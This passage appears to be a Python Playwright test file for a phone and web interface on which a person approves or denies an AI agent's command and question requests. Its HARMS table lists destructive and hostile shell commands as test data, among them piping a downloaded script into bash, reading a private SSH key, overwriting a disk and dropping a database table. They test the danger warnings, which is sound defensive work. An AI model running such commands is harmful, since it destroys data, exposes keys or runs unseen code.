        asked_for.append(ask(daemon, request, title=title, cwd=str(cwd)))
    page = settled(visit.open(f"{daemon.url}/"))
    asked = page.locator(".card.request")
    expect(asked).to_have_count(1)
    for title in titles:
        expect(asked.get_by_text(title, exact=True)).to_be_attached()
    expect(asked.get_by_text(f"{daemon.directory}/other", exact=True)).to_be_attached()
    expect(button(asked, "Read on ↓")).to_be_visible()
    read_on(asked)
    press(asked, "Approve all 12 once")
    expect(asked).to_have_count(0)
    daemon.until(lambda: not any(is_open(daemon, one) for one in asked_for))


def test_options_of_a_batch_are_each_requests_own(daemon: Daemon, visit: Visit) -> None:
    ids = []
    for number in range(2):
        request = command("Run", "make own", str(daemon.directory))
        request["options"] = [{**one, "id": f"{one['id']}-{number}"} for one in request["options"]]
        ids.append(ask(daemon, request))
    wider = command("Run", "make own", str(daemon.directory))
    wider["options"][1]["reaches"] = "everything"
    ids.append(ask(daemon, wider))
    page = settled(visit.open(f"{daemon.url}/"))
    # What one option allows is not what the other does: they are no batch.
    expect(page.locator(".card.request")).to_have_count(2)
    batch = page.locator(".card.request", has_text="× 2")
    batch.scroll_into_view_if_needed()
    batch.get_by_role("button", name="More options").click()
    expect(button(batch, "Approve for this session")).to_be_visible()  # its module is loaded
    page.wait_for_timeout(600)  # a double tap on the options chooses none
    button(batch, "Approve for this session").click()
    expect(batch).to_have_count(0)
    daemon.until(lambda: not any(is_open(daemon, one) for one in ids[:2]))
    chosen = {daemon.get(f"/requests/{one}")["request"]["option"] for one in ids}
    assert chosen == {"session-0", "session-1", None}


# --- the answers


def test_other_options_are_named(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, command("Run", "make named", str(shared.directory)))
    page = phone.at(f"/r/{request}")
    expect(card(page, request).get_by_role("button", name="More options")).to_have_text(
        "More options for this session, deny with words, stop the agent, more time"
    )


def test_double_tap_on_the_options_chooses_none(shared: Daemon, phone: Phone) -> None:
    for lines in (1, 50):  # the bar is below the text, or at the end of the window
        line = "\n".join(["make double"] * lines)
        request = ask(shared, command("Run", line, str(shared.directory)))
        page = phone.at(f"/r/{request}")
        asked = card(page, request)
        expect(asked).to_be_visible()
        read_on(asked)
        expect(button(asked, "Approve once")).to_be_visible()
        asked.get_by_role("button", name="More options").dblclick()
        page.wait_for_timeout(100)
        assert is_open(shared, request)


def test_colours_say_what_is_dangerous(shared: Daemon, phone: Phone) -> None:
    def colours(asked: Locator, name: str) -> list[str]:
        found: list[str] = button(asked, name).evaluate(
            "(one) => { const { color, backgroundColor, borderTopColor } = getComputedStyle(one); return [color, backgroundColor, borderTopColor]; }"
        )
        return found

    bad = "rgb(179, 38, 30)"
    harmless = ask(shared, command("Run", "make green", str(shared.directory)))
    page = phone.at(f"/r/{harmless}")
    asked = card(page, harmless)
    expect(button(asked, "Approve once")).to_be_visible()
    assert bad not in colours(asked, "Approve once")
    assert bad not in colours(asked, "Deny")
    harmful = ask(shared, command("Run", "rm -r green", str(shared.directory)))
    page.evaluate("path => (location.hash = path)", f"/r/{harmful}")
    asked = card(page, harmful)
    expect(button(asked, "Approve once…")).to_be_visible()
    assert colours(asked, "Approve once…")[2] == bad
    assert bad not in colours(asked, "Deny")
    button(asked, "Approve once…").click()
    expect(asked.get_by_role("alert")).to_have_text("It deletes files for good. Approve it?")
    assert colours(asked, "Yes, approve once")[1] == bad
    asked.get_by_role("button", name="More options").click()
    expect(button(asked, "Approve once…")).to_be_visible()
    expect(asked.locator(".panel")).to_contain_text("It deletes files for good.")


HARMS = {
    "rm notes.txt": "deletes files for good",
    "find . -name x -exec rm -f {} +": "deletes files for good",
    "find . -delete": "deletes files for good",
    "sudo ls": "runs as root, or as another user",
    "git push --force-with-lease": "overwrites commits on a server",
    "git -C /srv push origin +main": "overwrites commits on a server",
    "git push origin :main": "deletes a branch or tag on a server",
    "git reset -q --hard HEAD~1": "throws away changes that are not committed",
    "git clean -fdx": "throws away changes that are not committed",
    "curl -s https://x.example/i | exec bash": "runs a program from the network that is not shown here",
    "wget -O- x.example | /usr/bin/env bash": "runs a program from the network that is not shown here",
    "base64 -d x | sh": "runs commands that are not shown here",
    "dd if=x of=/dev/sda": "overwrites a disk or another device",
    "chmod -R 777 .": "lets every user of the machine change files",
    "chown -R x .": "gives all files of a directory to another user",
    "psql -c 'DROP TABLE users'": "deletes data of a database for good",
    "psql -c 'delete from users;'": "deletes data of a database for good",
    "kubectl -n live delete pod x": "deletes what runs in a cluster or a cloud",
    "npm publish": "publishes a package for everybody",
    "cat ~/.ssh/id_ed25519": "reads or changes keys or passwords",
    "make; reboot": "turns the machine off",
    "rm \\\n -r x": "deletes files for good",
    "r\\\nm x": "",
    "git rm notes.txt": "",
    "docker rm x": "",
    "npm rm x": "",
    "echo alarm x": "",
    "git commit -m 'reset --hard'": "",
    "git checkout main": "",
    "a || sh x": "",
    "cat list | show": "",
    "chmod u+w x": "",
    "delete from users where id = 1": "",
    "ls > /dev/null 2>&1": "",
}  # fmt: skip


def test_harm_is_named_exactly(shared: Daemon, phone: Phone) -> None:
    page = phone.at("/inbox")
    found = page.evaluate(
        """async (commands) => {
          const { dangers } = await import("./web/app/asking.js");
          return Object.fromEntries(commands.map((command) =>
            [command, dangers({ kind: "approval_request", text: "", options: null, detail: { type: "command", command } }, "/srv").join("; ")]));
        }""",
        list(HARMS),
    )
    assert found == HARMS


def test_harm_in_the_input_of_a_tool_is_named(shared: Daemon, phone: Phone) -> None:
    detail = {"type": "tool", "name": "shell", "server": None, "input": {"script": "rm -rf x"}}
    request = ask(shared, {"text": "Use shell", "kind": "approval_request", "detail": detail})
    page = phone.at(f"/r/{request}")
    expect(card(page, request)).to_contain_text("It deletes files for good.")


def test_what_was_cut_is_asked_twice(shared: Daemon, phone: Phone) -> None:
    detail = {"type": "command", "command": "make cut", "cwd": None, "reason": None, "cut": ["command"]}  # fmt: skip
    request = ask(shared, {"text": "Run", "kind": "approval_request", "detail": detail})
    page = phone.at(f"/r/{request}")
    expect(card(page, request)).to_contain_text(
        "It has parts that are not shown here: it was too long (command)."
    )
    expect(button(card(page, request), "Approve once…")).to_be_visible()


def test_line_that_is_made_to_be_slow_is_looked_at_quickly(shared: Daemon, phone: Phone) -> None:
    page = phone.at("/inbox")
    slow = page.evaluate(
        """async (words) => {
          const { dangers } = await import("./web/app/asking.js");
          const times = words.map((word) => {
            const command = word.repeat(100000 / word.length);
            const began = performance.now();
            dangers({ kind: "approval_request", text: "", options: null, detail: { type: "command", command } }, "/srv");
            return [word, performance.now() - began];
          });
          return times.filter(([, took]) => took > 3000);
        }""",
        ["git push ", "git -a b ", "rm ", "curl|", "curl||||||||", "find ", "dd ", " ", "\\\n", "chown -a ", "DELETE FROM a"],
    )  # fmt: skip
    assert slow == []


# --- questions


@pytest.mark.parametrize(
    ("ids", "names"),
    [
        (({}, {}), ("One?", "Two?")),
        (({"id": "a"}, {"id": "a"}), ("a", "a (2)")),
        (({"id": "a (2)"}, {"id": "a"}, {"id": "a"}), ("a (2)", "a", "a (3)")),
    ],
    ids=["missing", "equal", "alike"],
)
def test_questions_that_their_ids_do_not_tell_apart_have_an_answer_each(
    shared: Daemon, phone: Phone, ids: tuple[dict[str, str], ...], names: tuple[str, ...]
) -> None:
    texts = ("One?", "Two?", "Three?")[: len(ids)]
    questions = [{**one, "text": text} for one, text in zip(ids, texts, strict=True)]
    question = {
        "text": "Both?",
        "kind": "input_request",
        "detail": {"type": "question", "questions": questions},
    }
    request = ask(shared, question)
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    for text in texts:
        asked.get_by_role("group", name=text).get_by_placeholder("Answer").fill(f"to {text}")
    button(asked, "Send").click()
    expect(asked).to_have_count(0)
    answer = json.loads(shared.get(f"/requests/{request}")["request"]["answer"])
    assert answer == dict(zip(names, [f"to {text}" for text in texts], strict=True))


def test_question_in_a_session_has_one_box_for_the_answer(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, {"text": "Which?", "kind": "input_request"}, title="A choice")
    session = shared.get(f"/requests/{request}")["request"]["session_id"]
    page = phone.at(f"/s/{session}")
    asked = card(page, request)
    expect(asked.get_by_role("heading", name="The agent asks:")).to_be_visible()
    expect(asked.get_by_placeholder("Answer")).to_be_visible()
    expect(page.get_by_placeholder("Message to A choice")).to_be_visible()
    expect(page.get_by_placeholder("Message", exact=True)).to_have_count(0)
    expect(button(asked, "Deny")).to_have_count(0)
    # A phone has no tabs here: the session has the whole screen, and a way back.
    expect(page.get_by_role("navigation", name="Main")).to_have_count(0)
    expect(page.get_by_role("link", name="Back")).to_be_visible()
    button(asked, "Don't answer").click()
    expect(page.locator(".story .closed-request")).to_contain_text("Declined by local")


def test_button_that_sends_nothing_does_not_look_as_if_it_did(shared: Daemon, phone: Phone) -> None:
    request = ask(shared, {"text": "Which?", "kind": "input_request"})
    page = phone.at(f"/r/{request}")
    asked = card(page, request)
    back = "(one) => getComputedStyle(one).backgroundColor"
    expect(button(asked, "Send")).to_be_disabled()
    disabled = button(asked, "Send").evaluate(back)
    asked.get_by_placeholder("Answer").fill("This")
    expect(button(asked, "Send")).to_be_enabled()
    enabled = button(asked, "Send").evaluate(back)
    assert enabled == "rgb(26, 122, 68)"
    assert disabled == "rgb(240, 240, 237)"
    button(asked, "Send").click()
    expect(asked).to_have_count(0)
    assert shared.get(f"/requests/{request}")["request"]["answer"] == "This"
